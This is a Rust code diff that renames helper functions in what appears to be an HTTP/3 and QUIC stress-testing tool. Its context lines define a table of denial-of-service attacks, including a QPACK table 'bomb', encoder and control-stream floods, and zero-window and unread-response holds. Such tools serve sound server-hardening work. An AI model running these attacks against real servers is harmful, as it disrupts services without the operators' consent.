@@ -116,12 +116,12 @@ fn requests(count: usize, bytes: &[u8], ending: RequestEnding) -> Vec<QuicAction
     vec![QuicAction::Request(bytes.to_vec(), ending); count]
 }
 
-fn own(stream: OwnStream, bytes: Vec<u8>) -> QuicAction {
+fn on_own_stream(stream: OwnStream, bytes: Vec<u8>) -> QuicAction {
     QuicAction::Own(stream, bytes)
 }
 
 /// Returns the requests of the first turn of an attack that then does nothing.
-fn hold(to: &QuicTarget, turn: usize) -> Vec<QuicAction> {
+fn hold_requests(to: &QuicTarget, turn: usize) -> Vec<QuicAction> {
     if turn > 0 { Vec::new() } else { requests(STREAMS, &to.http.http3(false, 0), RequestEnding::Finish) }
 }
 
@@ -133,7 +133,7 @@ fn large_entry() -> Vec<u8> {
 /// Returns a request with references to a large entry, which the first turn adds to the dynamic table.
 fn bomb(to: &QuicTarget, turn: usize, references: usize) -> Vec<QuicAction> {
     let request = QuicAction::Request(to.http.http3(false, references), RequestEnding::Finish);
-    if turn == 0 { vec![own(OwnStream::Encoder, large_entry()), request] } else { vec![request] }
+    if turn == 0 { vec![on_own_stream(OwnStream::Encoder, large_entry()), request] } else { vec![request] }
 }
 
 /// Returns a section of `len` bytes, most of them fields.
@@ -233,14 +233,14 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
         name: "h3-unread-responses",
         about: "responses on all streams, not read",
         connection_window: 1 << 20,
-        turn: hold,
+        turn: hold_requests,
         ..HOLD
     },
     QuicAttack {
         name: "h3-zero-window",
         about: "responses under stream windows of 0",
         stream_window: 0,
-        turn: hold,
+        turn: hold_requests,
         ..HOLD
     },
     QuicAttack {
@@ -272,7 +272,7 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
         about: "instructions that empty and fill QPACK's table",
         turn: |_, _| {
             let churn = [set_capacity(0), large_entry()].concat();
-            vec![own(OwnStream::Encoder, churn.repeat(10))]
+            vec![on_own_stream(OwnStream::Encoder, churn.repeat(10))]
         },
         ..FLOOD
     },
@@ -285,7 +285,7 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
             } else {
                 [set_capacity(TABLE_BYTES), insert(b"x", b"v")].concat()
             };
-            vec![own(OwnStream::Encoder, bytes)]
+            vec![on_own_stream(OwnStream::Encoder, bytes)]
         },
         ..FLOOD
     },
@@ -298,7 +298,7 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
                 section.push(0x80);
                 let head = frame(kind::HEADERS, &section);
                 let mut actions = requests(BLOCKED_STREAMS, &head, RequestEnding::Finish);
-                actions.insert(0, own(OwnStream::Encoder, set_capacity(TABLE_BYTES)));
+                actions.insert(0, on_own_stream(OwnStream::Encoder, set_capacity(TABLE_BYTES)));
                 actions
             }
             _ => Vec::new(),
@@ -315,7 +315,7 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
                 payload.extend_from_slice(b"u=1");
                 frame(kind::PRIORITY_UPDATE, &payload)
             };
-            vec![own(OwnStream::Control, (0..STREAMS).flat_map(update).collect())]
+            vec![on_own_stream(OwnStream::Control, (0..STREAMS).flat_map(update).collect())]
         },
         ..FLOOD
     },
@@ -328,7 +328,7 @@ pub const QUIC_ATTACKS: &[QuicAttack] = &[
                 integer_frame(kind::MAX_PUSH_ID, turn as u32 & 0x3fff_ffff),
                 frame(UNKNOWN, b"unknown"),
             ];
-            vec![own(OwnStream::Control, frames.concat().repeat(BATCH))]
+            vec![on_own_stream(OwnStream::Control, frames.concat().repeat(BATCH))]
         },
         ..FLOOD
     },
